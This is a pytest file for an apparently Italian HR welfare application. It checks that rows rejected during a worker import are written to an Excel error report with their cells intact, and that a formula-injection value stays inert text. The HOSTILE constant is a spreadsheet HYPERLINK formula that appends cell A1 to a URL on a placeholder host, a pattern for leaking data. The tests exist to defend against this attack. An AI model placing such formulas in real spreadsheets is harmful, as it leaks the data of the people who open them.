"""The error report of an import, as the HR office opens it."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from tests.conftest import calc_sheets
from welfare_desk.documents.error_report import write_error_report
from welfare_desk.domain.codice_fiscale import encode
from welfare_desk.registry.importing import ImportPlan, plan_import
from welfare_desk.spreadsheets.columns import ImportKind
from welfare_desk.spreadsheets.tabular import read_sheet
from welfare_desk.store.engine import Store
from welfare_desk.store.uow import UnitOfWork

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"clicca")'


def _hostile_plan(store: Store, tmp_path: Path) -> ImportPlan:
    good = encode("Rossi", "Maria", date(1985, 3, 7), "F", "E648")
    rows = [
        ["Codice fiscale", "Cognome", "Nome", "Data di nascita", "Azienda"],
        [good, "Rossi", "Maria", "07/03/1985", "Officine Lodigiane"],
        ["RSSMRA85C47E648X", "Rossi", "Mària\x07", "07/03/1985", "Officine Lodigiane"],
        [good[:-1] + "Z", HOSTILE, "Anna", "31/02/1985", "Officine Lodigiane"],
    ]
    path = tmp_path / "ostile.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows(rows)
    with UnitOfWork(store) as uow:
        return plan_import(uow, read_sheet(path), ImportKind.WORKERS)


def test_refused_rows_keep_their_cells_and_formulas_stay_text(
    sqlite_store: Store, tmp_path: Path
) -> None:
    plan = _hostile_plan(sqlite_store, tmp_path)
    report = write_error_report(tmp_path / "errori.xlsx", plan)
    sheet = load_workbook(report).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "Riga del file",
        "Motivo",
        "Codice fiscale",
        "Cognome",
        "Nome",
        "Data di nascita",
        "Azienda",
    )
    assert [r[0] for r in rows[1:]] == [3, 4]
    assert "carattere di controllo" in rows[1][1]
    assert rows[2][3] == HOSTILE
    assert sheet.cell(row=3, column=4).data_type == "s"  # text, not a formula to run


def test_libreoffice_opens_the_report_as_a_client_would(
    sqlite_store: Store, tmp_path: Path
) -> None:
    plan = _hostile_plan(sqlite_store, tmp_path)
    report = write_error_report(tmp_path / "errori.xlsx", plan)
    rows = calc_sheets(report, tmp_path)["Righe scartate"]
    assert rows[0][:2] == ["Riga del file", "Motivo"]
    assert [r[0] for r in rows[1:]] == ["3", "4"]
    assert rows[2][3] == HOSTILE  # shown as typed, never evaluated
    assert "Mària" in rows[1][4]
